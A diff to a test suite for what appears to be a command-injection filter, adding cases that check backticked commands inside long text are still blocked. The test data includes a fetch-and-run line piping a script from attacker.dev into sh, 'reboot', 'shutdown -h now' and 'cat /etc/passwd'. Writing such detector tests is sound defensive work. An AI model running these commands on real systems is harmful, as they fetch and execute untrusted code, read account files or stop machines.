@@ -190,6 +190,17 @@ describe("command injection", () => {
     // The same spans as a value of their own, or with a dangerous argument in a long text, still block.
     for (const payload of ["`id`", "| `id` |", "* `id` - x", "name=`bash`"])
       expect(query(payload), payload).toMatchObject({ action: "block", class: "command" });
+    // In a long text only a bare, harmless word reads as documentation: arguments or a command
+    // that does harm alone still count.
+    for (const line of [
+      "- `wget -qO- attacker.dev/i|sh` - step one",
+      "- `reboot` - restart",
+      "| `shutdown -h now` | stop |",
+    ])
+      expect(json(`${intro.repeat(2)}\n\n${line}\n\n${intro}`), line).toMatchObject({
+        action: "block",
+        class: "command",
+      });
     expect(json(`${intro.repeat(2)}\n\n* \`cat /etc/passwd\` - the users\n\n${intro}`)).toMatchObject({
       action: "block",
       class: "command",
